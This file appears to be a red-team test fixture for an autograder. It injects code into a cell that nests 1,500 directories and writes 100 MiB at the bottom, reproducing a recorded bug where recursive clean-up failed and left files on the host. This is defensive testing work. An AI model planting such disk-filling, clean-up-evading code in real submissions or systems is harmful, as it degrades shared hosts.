"""A top-level cell nests 1,500 folders in its work directory with 100 MiB at the bottom (red team of issue 22: the keeper's recursive clean-up raised RecursionError, leaving 55 MiB in the host's /tmp per submission and skipping the rest of its clean-up): attacks the host's disk; every part keeps full points (tests/test_environments.py looks for what is left)."""
from autograder.assignment import PART_IDS
ATTACKS = []
KEEPS = list(PART_IDS)
EXPECT = ["DEEP: made"]
ADD = [(None, '''
import os

_fd = os.open(".", os.O_RDONLY)
_depth = 0
for _ in range(1500):
    try:
        os.mkdir("d", 0o700, dir_fd=_fd)
        _next = os.open("d", os.O_RDONLY, dir_fd=_fd)
    except OSError:
        break
    os.close(_fd)
    _fd, _depth = _next, _depth + 1
try:
    with open(os.open("payload", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=_fd), "wb") as _payload:
        _payload.write(b"\\x5a" * (100 << 20))
except OSError:
    pass
raise RuntimeError(f"DEEP: made {_depth} nested folders")
''')]
